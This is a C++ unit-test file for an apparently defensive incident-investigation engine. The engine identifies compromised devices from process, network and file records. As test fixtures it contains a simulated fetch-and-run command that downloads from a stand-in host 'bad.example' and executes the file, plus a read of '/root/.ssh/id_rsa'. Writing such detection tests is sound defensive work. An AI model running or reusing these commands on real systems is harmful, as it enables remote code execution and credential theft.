#include "clew/inquiry/pursuit.h"

#include "clew/inquiry/detail/records.h"

#include <algorithm>
#include <random>
#include <set>

#include <gtest/gtest.h>

namespace clew::inquiry {
namespace {

using base::Instant;
using detail::Evidence;
using detail::hour;
using detail::later;
using detail::launch;
using detail::noon;
using model::CaseDocument;

std::vector<std::string> compromised(const CaseDocument& document) {
  std::vector<std::string> names;
  for (const model::CaseDevice& device : document.devices) {
    if (device.status == model::DeviceStatus::compromised) names.push_back(device.name);
  }
  return names;
}

std::set<std::string> rules(const CaseDocument& document) {
  std::set<std::string> names;
  for (const model::CaseFinding& finding : document.findings) {
    if (finding.status == model::FindingStatus::counts) names.insert(finding.rule);
  }
  return names;
}

const std::vector<model::Indicator>& bad_example() {
  static const std::vector indicators = {detail::indicator_of(model::ValueType::domain, "bad.example")};
  return indicators;
}

TEST(Pursuit, ReadsNothingWhereNothingIsInQuestion) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  detail::add_ordinary_days(evidence);
  const CaseDocument document = detail::investigate(evidence, &pack, bad_example());
  EXPECT_TRUE(evidence.steps().empty());
  EXPECT_TRUE(document.findings.empty());
  EXPECT_TRUE(document.answer.door_kind.empty());
}

TEST(Pursuit, FindsADeviceByWhatItsAgentDidWithoutAnOrder) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  detail::add_ordinary_days(evidence);
  detail::add_intrusion(evidence, noon, "desk-7");
  const CaseDocument document = detail::investigate(evidence, &pack);
  EXPECT_EQ(compromised(document), std::vector<std::string>{"desk-7"});
  EXPECT_EQ(rules(document),
            (std::set<std::string>{"agent-child-without-order", "runs-what-it-fetched", "credential-store-opened"}));
  ASSERT_EQ(document.chains.size(), 1U);
  EXPECT_EQ(document.chains[0].id, "C1");
  EXPECT_EQ(document.answer.door_kind, "supplier_channel");
}

TEST(Pursuit, FindsWhatTheAgentStartedWhereTheLogHasOnlyTheParentsId) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  detail::add_ordinary_days(evidence);
  const auto by_id = [&](std::int64_t seconds, std::string_view pid, std::string_view path, std::string_view command,
                         std::string_view parent) {
    evidence.add(launch(later(noon, seconds), "web1", {pid, path, command, parent, {}, {}, {}}));
  };
  // The agent runs since before the log begins, and all that the log has of it is that it calls home.
  evidence.add(detail::with(detail::with(detail::flow(later(noon, -3600), "web1", "quay.example", "2000", "9000"),
                                         model::Attribute::actor_process_path, detail::agent),
                            model::Attribute::actor_process_pid, "50"));
  by_id(0, "900", "/bin/sh", "sh -c 'curl -s https://bad.example/a -o /var/tmp/a && /var/tmp/a'", "50");
  by_id(1, "901", "/usr/bin/curl", "curl -s https://bad.example/a -o /var/tmp/a", "900");
  evidence.add(detail::file_write(later(noon, 2), "web1", "/var/tmp/a", {"901", "/usr/bin/curl"}));
  by_id(3, "902", "/var/tmp/a", "/var/tmp/a", "900");
  evidence.add(detail::file_open(later(noon, 9), "web1", "/root/.ssh/id_rsa", {"902", "/var/tmp/a"}));
  // An administrator's shell does the same as administrators do.
  by_id(60, "700", "/bin/bash", "bash -c 'curl -s https://mirror.example/b -o /var/tmp/b'", "600");
  const CaseDocument document = detail::investigate(evidence, &pack);
  EXPECT_EQ(compromised(document), std::vector<std::string>{"web1"});
  EXPECT_TRUE(rules(document).contains("agent-child-without-order"));
  const auto told = std::ranges::find(document.findings, "agent-child-without-order", &model::CaseFinding::rule);
  ASSERT_NE(told, document.findings.end());
  EXPECT_NE(told->text.find("the supplier's agent (process 50) started"), std::string::npos) << told->text;
  EXPECT_TRUE(rules(document).contains("credential-store-opened"));
  EXPECT_EQ(document.answer.door_kind, "supplier_channel");
  EXPECT_NE(std::ranges::find(evidence.steps(), "reading what the agent started"), evidence.steps().end());
}

TEST(Pursuit, FindsADeviceByAnIndicatorAndASecondByASharedTrait) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  detail::add_ordinary_days(evidence);
  detail::add_intrusion(evidence, noon, "desk-7");
  evidence.add(detail::flow(later(noon, 90), "desk-7", "bad.example", "2000", "9000"));
  // On the second device nobody saw how it came there: only the same program under another name.
  evidence.add(launch(later(noon, 20 * hour), "desk-8",
                      {"500", "/Library/Helper/up", "up", "1", detail::launchd, "signed", detail::tool_hash}));
  // A third one runs a program of the same name and another hash.
  evidence.add(launch(
      later(noon, 20 * hour), "desk-6",
      {"500", "/Library/Helper/up", "up", "1", detail::launchd, "signed", "00112233445566778899aabbccddeeff00112233"}));
  const CaseDocument document = detail::investigate(evidence, &pack, bad_example());
  EXPECT_EQ(compromised(document), (std::vector<std::string>{"desk-7", "desk-8"}));
  EXPECT_TRUE(rules(document).contains("shared-trait"));
  EXPECT_TRUE(rules(document).contains("")) << "the indicator's own finding counts, too";
  EXPECT_NE(std::ranges::find(evidence.steps(), "looking for the same elsewhere"), evidence.steps().end());
  EXPECT_EQ(std::ranges::count(evidence.steps(), "reading the devices in question"), 2);
}

TEST(Pursuit, WhatManyDevicesHaveIsNobodysTrait) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  detail::add_ordinary_days(evidence);
  detail::add_intrusion(evidence, noon, "desk-7");
  for (int i = 0; i < 40; ++i)
    evidence.add(launch(later(noon, hour + i), "shop-" + std::to_string(i),
                        {"500", "/Library/Helper/up", "up", "1", detail::launchd, "signed", detail::tool_hash}));
  EXPECT_EQ(compromised(detail::investigate(evidence, &pack)), std::vector<std::string>{"desk-7"});
}

TEST(Pursuit, WhatAnotherDeviceHadBeforeIsNobodysTrait) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  detail::add_ordinary_days(evidence);
  detail::add_intrusion(evidence, noon, "desk-7");
  evidence.add(launch(later(noon, -20 * 24 * hour), "desk-8",
                      {"500", "/Library/Helper/up", "up", "1", detail::launchd, "signed", detail::tool_hash}));
  EXPECT_EQ(compromised(detail::investigate(evidence, &pack)), std::vector<std::string>{"desk-7"});
}

TEST(Pursuit, TheMachineOfAnAnalystIsNotASecondVictim) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  evidence.device({"lab-1", "", {}, "rue", "macOS", "security analyst workstation", 0});
  detail::add_ordinary_days(evidence);
  detail::add_intrusion(evidence, noon, "desk-7");
  evidence.add(launch(later(noon, 48 * hour), "lab-1",
                      {"500", "/Users/rue/samples/a", "a", "1", detail::launchd, "signed", detail::tool_hash}));
  EXPECT_EQ(compromised(detail::investigate(evidence, &pack)), std::vector<std::string>{"desk-7"});
}

TEST(Pursuit, OfTooManyDevicesTheEarliestAreReadAndTheOthersAreSaid) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  for (std::size_t i = 0; i < devices_read_max + 5; ++i)
    evidence.add(detail::agent_child(later(noon, 60 * static_cast<std::int64_t>(i)), "unit-" + std::to_string(i), "100",
                                     "/bin/zsh -c 'curl x'"));
  hunt::ScanResult scan = evidence.scan({}, seeds_of(&pack));
  Pursuit pursuit({}, scan, &pack, detail::july(), {});
  evidence.answer(pursuit);
  EXPECT_EQ(pursuit.records().of_device.size(), devices_read_max);
  EXPECT_TRUE(pursuit.records().of_device.contains("unit-0"));
  EXPECT_FALSE(pursuit.records().of_device.contains("unit-204"));
  ASSERT_FALSE(pursuit.left_out().empty());
  EXPECT_NE(pursuit.left_out().front().find("5 devices beyond the first 200"), std::string::npos);
}

TEST(Pursuit, ComesToAnEnd) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  detail::add_ordinary_days(evidence);
  // Each device leads to the next one, further than rounds go.
  for (int i = 0; i < 8; ++i) {
    const std::string device = "unit-" + std::to_string(i);
    const std::string hash = "00000000000000000000000000000000000000" + std::to_string(10 + i);
    const std::string next = "00000000000000000000000000000000000000" + std::to_string(11 + i);
    if (i == 0) detail::add_intrusion(evidence, noon, device);
    evidence.add(launch(
        later(noon, (i + 1) * 600), device,
        {"200", "/tmp/a", "a", i == 0 ? "102" : "1", i == 0 ? detail::tool : detail::launchd, "unsigned", hash}));
    evidence.add(launch(later(noon, (i + 1) * 600 + 5), device,
                        {"201", "/tmp/b" + std::to_string(i), "b", "200", "/tmp/a", "unsigned", next}));
  }
  const CaseDocument document = detail::investigate(evidence, &pack);
  EXPECT_GE(compromised(document).size(), 2U);
  EXPECT_LE(evidence.steps().size(), 2 * rounds_max + 2);
}

/// All that is concluded, without the places of the records.
std::string told(const CaseDocument& document) {
  std::string text = document.answer.sentence + "|" + document.answer.door_kind + "|" + document.answer.door_why;
  for (const auto& finding : document.findings)
    text += "\n" + finding.id + finding.rule + finding.text + finding.explanation + finding.chain +
            std::to_string(finding.repeats);
  for (const auto& chain : document.chains) text += "\n" + chain.id + chain.device + chain.root + chain.why;
  for (const auto& device : document.devices) text += "\n" + device.name + device.why;
  for (const auto& account : document.accounts) text += "\n" + account.name + account.why;
  for (const auto& item : document.rotation) text += "\n" + item.what + item.why + item.state_why;
  for (const auto& reason : document.answer.door_reasons) text += "\n" + reason.kind + reason.text;
  for (const auto& cleared : document.cleared) text += "\n" + cleared.what + cleared.why;
  return text;
}

TEST(Pursuit, TheSameRecordsInAnotherOrderGiveTheSameAnswer) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  evidence.device({"desk-7", "uid7", {"10.0.0.7"}, "kim", "macOS", "laptop", 0});
  detail::add_ordinary_days(evidence);
  detail::add_intrusion(evidence, noon, "desk-7");
  evidence.add(detail::flow(later(noon, 90), "desk-7", "bad.example", "2000", "9000"));
  evidence.add(launch(later(noon, 20 * hour), "desk-8",
                      {"500", "/Library/Helper/up", "up", "1", detail::launchd, "signed", detail::tool_hash}));
  evidence.add(detail::order(later(noon, 30 * hour), "desk-5", "o9",
                             {.address = "203.0.113.9", .client = "curl/8.0", .os = "", .method = "api key"}));
  const std::string first = told(detail::investigate(evidence, &pack, bad_example()));
  EXPECT_NE(first.find("desk-8"), std::string::npos);
  std::mt19937 shuffle(7);
  for (int round = 0; round < 10; ++round) {
    std::ranges::shuffle(evidence.events(), shuffle);
    EXPECT_EQ(told(detail::investigate(evidence, &pack, bad_example())), first);
  }
}

TEST(Pursuit, PutsClocksRightBeforeAnythingIsJudged) {
  const intel::Pack pack = detail::pack();
  Evidence evidence;
  for (int day = 0; day < 60; ++day) {
    const Instant morning = later(detail::at("2030-06-01T09:00:00Z"), day * 24 * hour);
    const std::string id = "daily-" + std::to_string(day);
    evidence.add(detail::order(morning, "desk-9", id));
    // This source's clock is two hours fast: without knowing that, every order would come long before its effect.
    evidence.add(
        detail::agent_child(later(morning, 2 * hour + 10), "desk-9", "900", "/bin/zsh -c 'softwareupdate --list'"));
    evidence.add(detail::result(later(morning, 30), "desk-9", id, morning, "softwareupdate --list"));
  }
  const CaseDocument document = detail::investigate(evidence, &pack);
  ASSERT_EQ(document.clocks.size(), 2U);
  EXPECT_TRUE(document.clocks[0].applied);
  EXPECT_NEAR(document.clocks[0].offset_seconds, 2 * hour, 30);
  EXPECT_FALSE(document.clocks[1].applied) << "orders and their answers agree";
  EXPECT_TRUE(document.findings.empty()) << document.findings.front().text;
}

}  // namespace
}  // namespace clew::inquiry
